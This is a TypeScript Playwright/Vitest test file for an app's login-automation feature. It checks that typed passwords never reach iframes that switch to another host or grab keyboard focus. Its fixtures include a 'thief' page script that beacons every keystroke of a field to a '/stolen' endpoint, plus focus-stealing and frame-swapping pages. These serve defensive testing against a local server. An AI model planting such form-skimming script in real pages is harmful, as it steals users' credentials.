import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { hostsOfLogin } from '../../../../electron/consent/automation/allowed-hosts.ts';
import { runScript } from '../../../../electron/consent/automation/run-script.ts';
import { AppError } from '../../../../shared/errors.ts';
import { Secret } from '../../../../shared/secret.ts';
import { launchChromium } from '../../../fixtures/chromium.ts';
import { type LoginServer, type Pages, startLoginServer } from '../login-server.ts';

/** Pages that change whose they are, or who has the keyboard, between the look at their host and the typing. */
let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(() => browser.close());

const foreign = ({ url }: LoginServer): string => url.replace('127.0.0.1', 'localhost');
const form = '<input id="user" autofocus><select id="s"><option>a<option>hunter22</select>';
/** Tells the server all that comes into its field, at once. */
const thief = `${form}<script>user.addEventListener('input', () => navigator.sendBeacon('/stolen', user.value));
  s.addEventListener('input', () => navigator.sendBeacon('/stolen', s.value));</script>`;

interface Tried {
  page: Page;
  /** How the script ended; `none`: well. */
  code: string;
  /** What the other host got. */
  stolen: string[];
}

async function attempt(pages: (server: LoginServer) => Pages, source: string): Promise<Tried> {
  const server: LoginServer = await startLoginServer({
    '/thief': () => thief,
    '/stolen': () => '',
    '/grabs': () => `${thief}<script>setInterval(() => user.focus(), 1)</script>`,
    '/form': () => form,
    ...{ '/start': (...given) => pages(server)['/start']?.(...given) ?? '' },
    ...{ '/in': (...given) => pages(server)['/in']?.(...given) ?? '' },
  });
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const hosts = hostsOfLogin(server.url, []);
  hosts.follow(page, server.url);
  await page.goto(`${server.url}/start`);
  const code = await runScript({
    ...{ source, fileName: 'a.js', page, hosts, stepLimitMs: 4000 },
    vars: { password: new Secret('hunter22') },
  }).then(
    () => 'none',
    (thrown: unknown) => AppError.from(thrown).code,
  );
  // What was typed into the other page is told before this answer.
  await Promise.all(page.frames().map((frame) => frame.evaluate(() => fetch('/sync'))));
  const stolen = server.visits.filter(({ path }) => path === '/stolen').map(({ body }) => body);
  return { page, code, stolen };
}

const inFrame = `const field = page.frameLocator('iframe').locator('#user');`;

// The field is found at the allowed host, and is ready only once it is the other's.
test.each([
  ['fill', `${inFrame} await field.fill(vars.password)`],
  ['selectOption', `await page.frameLocator('iframe').locator('#s').selectOption(vars.password)`],
  // Each key has time to be too late.
  ['pressSequentially', `${inFrame} await field.pressSequentially(vars.password, { delay: 100 })`],
])('a frame that becomes another host’s while %s waits or types gets nothing', async (_name, source) => {
  const { code, stolen } = await attempt(
    (server) => ({
      '/start': () => `<iframe src="/in"></iframe><script>onload = () => setTimeout(() => {
        document.querySelector('iframe').src = '${foreign(server)}/thief' }, 500)</script>`,
      '/in': () => (source.includes('Sequentially') ? form : form.replaceAll('id=', 'disabled id=')),
    }),
    source,
  );
  expect(stolen).toEqual([]);
  expect(code).toBe('script_host_not_allowed');
});

test('a frame that takes the keyboard for itself again and again gets nothing of a field that is filled', async () => {
  const { page, code, stolen } = await attempt(
    (server) => ({
      '/start': () => `${form}<iframe src="${foreign(server)}/grabs"></iframe>`,
    }),
    `await page.frameLocator('iframe').locator('#user').waitFor();
    for (let round = 0; round < 40; round += 1) await page.locator('#user').fill(vars.password + round);`,
  );
  expect(stolen).toEqual([]);
  expect(code).toBe('none');
  expect(await page.inputValue('#user')).toBe('hunter2239');
});

test.each([
  ['pressSequentially', `await page.locator('#user').pressSequentially(vars.password)`],
  ['keyboard.type', `await page.locator('#user').focus(); await page.keyboard.type(vars.password)`],
])(
  'a page that gives the keyboard to a frame of another host at the first key of %s stops it there',
  async (_name, source) => {
    const { code, stolen } = await attempt(
      (server) => ({
        '/start': () => `${form}<iframe src="${foreign(server)}/thief"></iframe>
        <script>user.onkeyup = () => document.querySelector('iframe').contentWindow.focus()</script>`,
      }),
      `await page.frameLocator('iframe').locator('#user').focus(); ${source}`,
    );
    expect(stolen).toEqual([]);
    expect(code).toBe('script_host_not_allowed');
  },
);

test('a field beside a frame of another host is filled as any other: labels, texts, dates and editable parts', async () => {
  const { page, code } = await attempt(
    (server) => ({
      '/start': () => `<iframe src="${foreign(server)}/thief"></iframe>
        <label id="label">Name <input id="name" value="old" oninput="document.title += event.isTrusted"></label>
        <textarea id="area">old</textarea><input id="day" type="date"><input id="mail" type="email" value="old">
        <input id="short" maxlength="3"><p id="editable" contenteditable>old</p><input id="count" type="number">`,
    }),
    `await page.fill('#label', 'new'); await page.fill('#area', 'a\\nb'); await page.fill('#day', '2026-01-31');
    await page.fill('#mail', 'a@b.example'); await page.fill('#short', 'abcdef'); await page.fill('#editable', 'new');
    await page.fill('#count', '42'); await page.locator('#name').press('End');
    await page.locator('#name').pressSequentially('er é');`,
  );
  expect(code).toBe('none');
  expect(await page.inputValue('#name')).toBe('newer é');
  expect(await page.title()).toMatch(/^(true)+$/);
  const values = ['#area', '#day', '#mail', '#short', '#count'].map((field) => page.inputValue(field));
  expect(await Promise.all(values)).toEqual(['a\nb', '2026-01-31', 'a@b.example', 'abc', '42']);
  expect(await page.textContent('#editable')).toBe('new');
});

test('a field that the page keeps replacing is found again, as by Playwright itself', async () => {
  const { page, code } = await attempt(
    () => ({
      '/start': () => `<main></main><script>let count = 0; const draw = () => {
        document.querySelector('main').innerHTML = '<input id="user"' + (count++ < 40 ? ' disabled' : '') + '>';
        if (count <= 40) setTimeout(draw, 25) }; draw()</script>`,
    }),
    `await page.locator('#user').fill(vars.password)`,
  );
  expect(code).toBe('none');
  expect(await page.inputValue('#user')).toBe('hunter22');
});
